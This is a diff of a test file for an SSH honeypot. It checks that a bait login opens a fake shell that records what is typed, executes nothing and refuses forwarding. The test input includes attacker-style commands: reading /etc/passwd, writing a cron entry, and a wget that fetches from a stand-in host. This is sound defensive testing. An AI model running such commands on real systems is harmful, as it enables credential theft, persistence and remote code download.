@@ -1,6 +1,6 @@
 import { spawn } from "node:child_process";
 import { once } from "node:events";
-import { Client, type ClientErrorExtensions } from "ssh2";
+import { Client, type ClientChannel, type ClientErrorExtensions } from "ssh2";
 import { afterAll, beforeAll, expect, test } from "vitest";
 import { connectTo, converse } from "../../testing/converse.ts";
 import { openForTest, type OpenedDecoys } from "../../testing/opened.ts";
@@ -26,13 +26,47 @@ async function login(from: string, username: string, password: string) {
   return { level, key };
 }
 
-test("passwords are refused and counted, bait is bait; the host key stays the same", async () => {
+/** Lets itself in with bait. */
+async function enter(from: string): Promise<Client> {
+  const client = new Client();
+  client.on("error", () => undefined);
+  client.connect({ sock: await connectTo(decoys.portOf("ssh"), from), username: "backup", password: "Blue-Heron-4" });
+  await once(client, "ready");
+  return client;
+}
+
+test("bait opens a shell without a system: what is typed is answered, recorded and nowhere executed", async () => {
+  const client = await enter("127.0.3.6");
+  const channel = await new Promise<ClientChannel>((resolve, reject) => void client.shell((error, opened) => (error ? reject(error) : resolve(opened))));
+  await converse(channel, [[/backup@files2:~\$ $/, "id; uname -r\r"], [/uid=1000\(backup\)[^]*5\.10\.0-33-amd64[^]*\$ $/, "cat /etc/pqsswd\u007f\u007f\u007f\u007f\u007fasswd\r"], [/root:x:0:0[^]*\$ $/, "echo '* * * * * x' > /tmp/cron\r"], [/\$ $/, "wget http://192.0.2.1/x\r"], [/\$ $/, "printf '\u001B]0;x\u0007'\r"]], /\$ $/);
+  client.end();
+  await expect.poll(() => lastOf("127.0.3.6")).toMatchObject({ stage: "bait_credential", severity: "critical", techniques: expect.arrayContaining(["T1078", "T1059.004", "T1570"]) as string[] });
+  await expect.poll(() => decoys.evidence.find(({ transcript }) => transcript !== null)?.transcript).toMatch(/^\{"version":2,"width":80,"height":24,"timestamp":\d+\}\n\[/);
+  const lines = decoys.evidence.find(({ transcript }) => transcript !== null)?.transcript?.trim().split("\n").map((line) => JSON.parse(line) as unknown) ?? [];
+  expect(lines.slice(1).every((line) => Array.isArray(line) && typeof line[0] === "number" && (line[1] === "i" || line[1] === "o") && typeof line[2] === "string")).toBe(true);
+  expect(decoys.evidence.flatMap(({ files }) => files)).toMatchObject([{ name: "/tmp/cron", octets: 12, is_kept: true }]);
+  await expect.poll(() => decoys.evidence.flatMap(({ fingerprints }) => fingerprints.map(({ kind }) => kind))).toEqual(expect.arrayContaining(["hassh", "software"]));
+});
+
+test("of who was let in commands are answered, and forwarding is refused", async () => {
+  const client = await enter("127.0.3.7");
+  const said = await new Promise<string>((resolve, reject) => void client.exec("whoami", (error, channel) => {
+    if (error) return reject(error);
+    let text = "";
+    channel.on("data", (bytes: Buffer) => (text += bytes.toString())).on("close", () => resolve(text));
+  }));
+  expect(said).toBe("backup\n");
+  await expect(new Promise((resolve, reject) => void client.forwardOut("127.0.0.1", 1, "192.0.2.1", 80, (error, channel) => (error ? reject(error) : resolve(channel))))).rejects.toThrow(/open failure/);
+  await expect(new Promise((resolve, reject) => void client.sftp((error, channel) => (error ? reject(error) : resolve(channel))))).rejects.toThrow();
+  client.end();
+  expect(decoys.counts.failures).toBe(0);
+});
+
+test("passwords are refused and counted; the host key stays the same", async () => {
   const first = await login("127.0.3.1", "root", "toor");
   expect(first.level).toBe("client-authentication");
   await expect.poll(() => lastOf("127.0.3.1")).toMatchObject({ service: "ssh", stage: "credential", username: "root", techniques: ["T1046", "T1110.001", "T1021.004"] });
-  const second = await login("127.0.3.2", "backup", "Blue-Heron-4");
-  expect(second).toEqual(first);
-  await expect.poll(() => lastOf("127.0.3.2")).toMatchObject({ stage: "bait_credential", severity: "critical", username: "backup" });
+  expect(await login("127.0.3.2", "backup", "none")).toEqual(first);
 });
 
 test("says what it is before it is asked, and ends who speaks something else", async () => {
